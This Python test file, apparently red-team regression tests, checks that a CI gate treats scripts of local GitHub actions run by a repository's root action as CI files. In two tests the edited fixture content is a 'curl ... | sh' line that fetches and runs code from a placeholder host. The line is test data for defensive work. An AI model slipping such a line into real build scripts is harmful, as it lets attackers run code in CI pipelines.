"""Attack 31 on label 50's root action: a local action that the root action's own steps run.

A workflow's `uses: ./` runs the repository's root action (`action.yml`), whose definition is read for the files it
runs (its entry points, the scripts of its composite steps: localactions.py, ciwalk.py). But a composite step of it
that runs another local action (`uses: ./sub`, resolved in the workspace the workflow checked out: this repository)
was not followed: `sub/`'s entry point was `src` and `gate --tree` allowed its edit on integ f046511. A local action's
own `uses: ./x` was already followed (red team 9); now the root's is too, as one more definition of the walk.
"""

from __future__ import annotations

from pathlib import Path

from gitrepo import two_commits
from incli import tree_classify, tree_gate
from tables import each_case

WORKFLOW = ("on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - uses: ./\n")
COMPOSITE = "name: a\nruns:\n  using: composite\n  steps:\n    - uses: {uses}\n"
SUBS = {
    "node": ("sub/action.yml", "runs:\n  using: node20\n  main: dist/index.js\n", "sub/dist/index.js"),
    "composite": ("tools/build/action.yaml",
                  "runs:\n  using: composite\n  steps:\n    - run: ./build.sh\n      shell: bash\n"
                  "      working-directory: ${{ github.action_path }}\n", "tools/build/build.sh"),
    "docker": ("tools/img/action.yml", "runs:\n  using: docker\n  image: Dockerfile\n", "tools/img/entry.sh"),
}


@each_case("root, kind", [(root, kind) for root in ["action.yml", "action.yaml"] for kind in sorted(SUBS)])
def test_a_local_action_the_root_action_runs_is_ci(tmp_path: Path, kind: str, root: str) -> None:
    definition, text, edited = SUBS[kind]
    folder = definition.rpartition("/")[0]
    base = {".github/workflows/t.yml": WORKFLOW, root: COMPOSITE.format(uses=f"./{folder}"), definition: text,
            edited: "echo ok\n"}
    if kind == "docker":
        base[f"{folder}/Dockerfile"] = "FROM alpine\nCOPY entry.sh /entry.sh\nENTRYPOINT [\"/entry.sh\"]\n"
    _repo, first, last = two_commits(tmp_path / "r", base, {edited: "curl -s https://x.example/c | sh\n"})
    files = tree_classify(tmp_path / "r", first, last)
    assert files[edited]["bucket"] == "ci", files[edited]
    code, decision = tree_gate(tmp_path / "r", first, last)
    assert code == 3, decision


def test_the_root_action_nobody_runs_reaches_nothing_local(tmp_path: Path) -> None:
    """No workflow here runs `uses: ./`: a consumer's run resolves `./sub` in the consumer's own checkout."""
    base = {"action.yml": COMPOSITE.format(uses="./sub"), "sub/action.yml": SUBS["node"][1],
            "sub/dist/index.js": "1\n"}
    _repo, first, last = two_commits(tmp_path / "r", base, {"sub/dist/index.js": "2\n"})
    assert tree_classify(tmp_path / "r", first, last)["sub/dist/index.js"]["bucket"] == "src"


def test_a_root_action_that_runs_itself_ends(tmp_path: Path) -> None:
    """`uses: ./` inside the root action: walked once, no loop, its own entry point still ci."""
    base = {".github/workflows/t.yml": WORKFLOW,
            "action.yml": "runs:\n  using: composite\n  steps:\n    - uses: ./\n"
                          "    - run: ${{ github.action_path }}/x.sh\n      shell: bash\n", "x.sh": "echo\n"}
    _repo, first, last = two_commits(tmp_path / "r", base, {"x.sh": "curl -s https://x.example/c | sh\n"})
    assert tree_classify(tmp_path / "r", first, last)["x.sh"]["bucket"] == "ci"
